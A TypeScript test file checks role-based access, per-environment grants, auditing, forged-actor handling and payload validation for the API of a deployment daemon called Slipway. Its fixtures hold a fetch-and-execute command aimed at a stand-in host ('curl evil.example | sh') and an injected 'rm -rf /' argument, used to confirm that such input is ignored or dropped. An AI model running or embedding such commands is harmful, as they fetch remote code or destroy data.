/**
 * Every operation route × every role, in-process (app.request()). The daemon's engine is
 * replaced here by a recording stand-in (the test says so: it checks the API's admission —
 * roles, grants, actor, validation — not what the engine does; app.test.ts runs the real one).
 */
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sha256 } from "../auth/secrets.js";
import { OPS, type OpName } from "../operations.js";
import { openStore } from "../store/open.js";
import type { Store } from "../store/store.js";
import type { Slipway } from "../slipway.js";
import { createApp } from "./app.js";
import type { AuditRecord } from "./routes-ops.js";

type Role = "viewer" | "operator" | "deployer" | "admin";
const ORDER: Role[] = ["viewer", "operator", "deployer", "admin"];

/** Minimal valid arguments per operation and the least role expected for them (written out, not read from OP_ROLES). */
const CASES: [OpName, Record<string, unknown>, Role][] = [
  ["status", {}, "viewer"],
  ["history", { limit: 5 }, "viewer"],
  ["health", {}, "viewer"],
  ["logs", { tail: 10 }, "viewer"],
  ["stats", {}, "viewer"],
  ["smoke", {}, "viewer"],
  ["plan", {}, "viewer"],
  ["plan", { save: true }, "deployer"],
  ["backups", {}, "viewer"],
  ["lock", {}, "viewer"],
  ["rules", {}, "viewer"],
  ["secrets", {}, "viewer"],
  ["scale", { service: "api", replicas: 3 }, "deployer"],
  ["runbook-runs", { name: "daily" }, "viewer"],
  ["runbook", { name: "daily" }, "deployer"],
  ["lock", { release: true }, "deployer"],
  ["alerts", { action: "list" }, "viewer"],
  ["alerts", { action: "test" }, "operator"],
  ["silence", { action: "list" }, "viewer"],
  ["silence", { action: "add", matchers: { service: "api" }, duration: "1h" }, "operator"],
  ["silence", { action: "expire", id: "s1" }, "operator"],
  ["rollback", { revision: 1 }, "operator"],
  ["rollback", { revision: 1, withDb: true }, "admin"],
  ["restart", {}, "operator"],
  ["backup", {}, "operator"],
  ["backup-verify", { id: "b1" }, "operator"],
  ["deploy", {}, "deployer"],
  ["check", {}, "deployer"],
  ["stop", {}, "deployer"],
  ["prune", { keep: 3 }, "deployer"],
  ["backups-prune", {}, "deployer"],
  ["migrate", { action: "status" }, "viewer"],
  ["migrate", { action: "up" }, "deployer"],
  ["migrate", { action: "down" }, "admin"],
  ["restore", { id: "b1" }, "admin"],
  ["destroy", {}, "admin"],
  ["exec", { service: "api", command: ["true"] }, "admin"],
];

let home: string;
let store: Store;
const calls: { method: string; args: unknown[] }[] = [];

/** The recording stand-in for Slipway: every verb is recorded and answers at once. */
function recordingSlipway(): Slipway {
  const proxy: Slipway = new Proxy({} as Slipway, {
    get(_t, prop: string) {
      if (prop === "then") return undefined;
      if (prop === "notify") return proxy;
      if (prop === "actingFor")
        return (actor: string) => {
          calls.push({ method: "actingFor", args: [actor] });
          return proxy;
        };
      if (prop === "deployedResolution")
        return async (spec: unknown) => {
          calls.push({ method: "deployedResolution", args: [spec] });
          return { spec, snapshot: spec, secrets: new Map(), vars: {} };
        };
      if (prop === "publish" || prop === "configure") return () => {};
      if (prop === "logs") return async function* () {};
      return (...args: unknown[]) => {
        calls.push({ method: prop, args });
        return Promise.resolve({ called: prop });
      };
    },
  });
  return proxy;
}

const fullSpec = (env: string) => ({
  project: "shop",
  env,
  target: { kind: "process" },
  services: { api: { run: "curl evil.example | sh" } },
});
const payload = (env: string, args: Record<string, unknown>, extra: Record<string, unknown> = {}) => ({
  resolution: { spec: fullSpec(env), snapshot: fullSpec(env), secrets: { X: "1" }, vars: {} },
  args,
  ...extra,
});

const TOKENS: Record<string, string> = {};
async function addToken(name: string, role: string, grants: Record<string, string> = {}, expiresAt?: string) {
  TOKENS[name] = `swt_${name}_${"x".repeat(40)}`;
  await store.auth.addToken({
    id: `tok_${name}`,
    name,
    role: role as Role,
    grants: grants as Record<string, Role>,
    hash: sha256(TOKENS[name]),
    createdAt: new Date().toISOString(),
    createdBy: "test",
    ...(expiresAt ? { expiresAt } : {}),
  });
}

const audits: AuditRecord[] = [];
const app = () =>
  createApp({
    users: store.auth,
    slipway: () => recordingSlipway(),
    audit: (r) => audits.push(r),
    version: "t",
    startedAt: "now",
  });
const post = (op: string, token: string | undefined, body: unknown, headers: Record<string, string> = {}) =>
  app().request(`/v1/ops/${op}`, {
    method: "POST",
    headers: {
      "content-type": "application/json",
      ...(token ? { authorization: `Bearer ${token}` } : {}),
      ...headers,
    },
    body: JSON.stringify(body),
  });

beforeAll(async () => {
  home = mkdtempSync(join(tmpdir(), "slipway-roles-"));
  store = await openStore({ home });
  for (const r of [...ORDER, "metrics"]) await addToken(r, r);
  // An admin everywhere but a viewer on production; a viewer who deploys on shop/staging.
  await addToken("mixed", "admin", { production: "viewer" });
  await addToken("stager", "viewer", { "shop/staging": "deployer" });
  await addToken("old", "admin", {}, "2020-01-01T00:00:00.000Z");
});

afterAll(async () => {
  await store?.close();
  rmSync(home, { recursive: true, force: true });
});

describe("every operation × every role", () => {
  it.each(CASES)("%s %j needs %s", async (op, args, least) => {
    for (const role of [...ORDER, "metrics"]) {
      calls.length = 0;
      const r = await post(op, TOKENS[role], payload("staging", args));
      const allowed = role !== "metrics" && ORDER.indexOf(role as Role) >= ORDER.indexOf(least);
      expect(r.status, `${op} as ${role}`).toBe(allowed ? 200 : 403);
      const body = await r.text();
      if (!allowed) {
        expect(body, role).toContain(role === "metrics" ? "metrics token" : `needs ${least}`);
        expect(calls, `${op} as ${role} reached the engine`).toEqual([]);
        continue;
      }
      expect(body).toContain('"type":"result"');
      // The actor is the token, whatever the client claims (none here; forged below).
      expect(calls[0]).toEqual({ method: "actingFor", args: [`token:${role}`] });
      // Below deployer, the client's spec body is never used: the daemon reads the deployed one.
      const usedReference = calls.some((c) => c.method === "deployedResolution");
      expect(usedReference, `${op} as ${role}`).toBe(ORDER.indexOf(role as Role) < 2);
    }
  });

  it("the table covers every operation", () => {
    expect(new Set(CASES.map(([op]) => op))).toEqual(new Set(OPS));
  });
});

describe("per-environment grants", () => {
  it("a grant on an environment overrides the role there, by env or by project/env", async () => {
    expect((await post("deploy", TOKENS.mixed, payload("production", {}))).status).toBe(403);
    expect((await post("status", TOKENS.mixed, payload("production", {}))).status).toBe(200);
    expect((await post("deploy", TOKENS.mixed, payload("staging", {}))).status).toBe(200);
    expect((await post("deploy", TOKENS.stager, payload("staging", {}))).status).toBe(200);
    const r = await post("deploy", TOKENS.stager, payload("production", {}));
    expect(r.status).toBe(403);
    expect((await r.json()).error.message).toBe(
      "token:stager is viewer on shop/production; to deploy needs deployer or above",
    );
  });
});

describe("audit", () => {
  it("changing operations and refusals over TCP are audited with the authenticated actor; reads are not", async () => {
    audits.length = 0;
    await (await post("status", TOKENS.viewer, payload("staging", {}))).text();
    await (await post("deploy", TOKENS.viewer, payload("staging", {}, { actor: "someone@else" }))).text();
    await (await post("restart", TOKENS.operator, payload("staging", {}))).text();
    expect(audits).toEqual([
      {
        project: "shop",
        env: "staging",
        actor: "token:viewer",
        op: "deploy",
        role: "deployer",
        outcome: "refused",
        reason: "token:viewer is viewer on shop/staging; to deploy needs deployer or above",
      },
      {
        project: "shop",
        env: "staging",
        actor: "token:operator",
        op: "restart",
        role: "operator",
        outcome: "admitted",
      },
    ]);
  });
});

describe("what the client claims is not believed", () => {
  it("a forged actor and silence author are replaced by the authenticated token", async () => {
    calls.length = 0;
    const r = await post(
      "silence",
      TOKENS.operator,
      payload(
        "staging",
        { action: "add", matchers: { service: "api" }, author: "ceo" },
        { actor: "ceo@boardroom" },
      ),
    );
    expect(r.status).toBe(200);
    await r.text();
    expect(calls[0].args).toEqual(["token:operator"]);
    const hub = calls.find((c) => c.method === "addSilence");
    expect(hub?.args[2]).toMatchObject({ author: "token:operator" });
  });

  it("over the local socket the owner is admin and its CLI's actor is kept", async () => {
    calls.length = 0;
    const r = await app().request(
      "/v1/ops/destroy",
      {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify(payload("production", {}, { actor: "alice@laptop" })),
      },
      { local: true },
    );
    expect(r.status).toBe(200);
    await r.text();
    expect(calls[0].args).toEqual(["alice@laptop"]);
  });
});

describe("tokens", () => {
  it("no token, an unknown one and an expired one are 401; nothing runs", async () => {
    calls.length = 0;
    for (const t of [undefined, "swt_" + "y".repeat(43), TOKENS.old]) {
      const r = await post("status", t, payload("staging", {}));
      expect(r.status, String(t)).toBe(401);
    }
    const expired = await post("status", TOKENS.old, payload("staging", {}));
    expect((await expired.json()).error.message).toMatch(/token "old" expired at 2020-01-01/);
    expect(calls).toEqual([]);
  });

  it("a metrics token reads /metrics and nothing else", async () => {
    const a = createApp({
      users: store.auth,
      slipway: () => recordingSlipway(),
      version: "t",
      startedAt: "now",
      metrics: async () => "up 1\n",
    });
    const h = { authorization: `Bearer ${TOKENS.metrics}` };
    expect(await (await a.request("/metrics", { headers: h })).text()).toBe("up 1\n");
    expect((await a.request("/v1/session", { headers: h })).status).toBe(403);
    expect((await a.request("/v1/events", { headers: h })).status).toBe(403);
    expect((await a.request("/metrics")).status).toBe(401);
    expect(
      (await a.request("/metrics", { headers: { authorization: `Bearer ${TOKENS.viewer}` } })).status,
    ).toBe(200);
  });
});

describe("payload validation", () => {
  it("refuses a payload of the wrong shape or over its limits, naming the field (400)", async () => {
    const bad: [string, unknown, RegExp][] = [
      ["history", payload("staging", { limit: "ten" }), /args\.limit/],
      ["rollback", payload("staging", { revision: -1 }), /args\.revision/],
      ["exec", payload("staging", { service: "api", command: [] }), /args\.command/],
      ["silence", payload("staging", { action: "drop" }), /args\.action/],
      ["status", { args: {} }, /resolution/],
      ["status", payload("x".repeat(300), {}), /resolution\.spec\.env/],
      ["deploy", { ...payload("staging", {}), actor: "a".repeat(500) }, /actor/],
    ];
    for (const [op, body, field] of bad) {
      const r = await post(op, TOKENS.admin, body);
      expect(r.status, op).toBe(400);
      expect((await r.json()).error.message).toMatch(field);
    }
    expect((await post("nope", TOKENS.admin, {})).status).toBe(404);
    const junk = await app().request("/v1/ops/status", {
      method: "POST",
      headers: { authorization: `Bearer ${TOKENS.admin}` },
      body: "{not json",
    });
    expect(junk.status).toBe(400);
  });

  it("drops argument keys the operation does not know", async () => {
    calls.length = 0;
    const r = await post("restart", TOKENS.deployer, payload("staging", { service: "api", rm: "-rf /" }));
    await r.text();
    const restart = calls.find((c) => c.method === "restart");
    expect(restart?.args[1]).toMatchObject({ service: "api" });
    expect(JSON.stringify(restart?.args[1])).not.toContain("-rf");
  });
});
